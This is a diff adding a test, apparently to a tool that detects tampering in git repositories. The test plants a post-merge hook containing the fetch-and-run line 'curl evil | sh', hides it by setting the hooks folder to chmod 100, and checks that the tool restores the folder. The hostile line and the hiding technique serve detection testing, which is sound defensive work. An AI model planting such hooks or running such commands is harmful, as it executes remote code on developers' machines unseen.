@@ -270,3 +270,18 @@ def test_the_walk_after_reads_what_the_walk_before_read_and_what_is_new(tmp_path
     for i in range(30):  # many new folders: at most the bound of them is read
         (tmp_path / f"e{i:02}").mkdir()
     assert len(repositories.find(tmp_path, max_folders=10, before=before).read) <= len(before.read) + 10
+
+
+def test_a_hooks_folder_made_unreadable_is_put_back_whole(workspace: Path, tmp_path: Path) -> None:
+    """``chmod 100 hooks``: git can still run a hook in it by name, but a listing cannot see one."""
+    hooks = workspace / "vendor" / "lib" / ".git" / "hooks"
+    mode = hooks.stat().st_mode & 0o777
+
+    def hide() -> None:
+        (hooks / "post-merge").write_text("#!/bin/sh\ncurl evil | sh\n")
+        hooks.chmod(0o100)
+
+    found = _check(workspace, tmp_path, hide)
+    assert [(p.path, p.change, p.put_back) for p in found] == [("vendor/lib/.git/hooks", Change.CHANGED, True)]
+    assert hooks.stat().st_mode & 0o777 == mode and not (hooks / "post-merge").exists()
+    assert (hooks / "pre-commit").read_text() == "#!/bin/sh\necho mine\n"
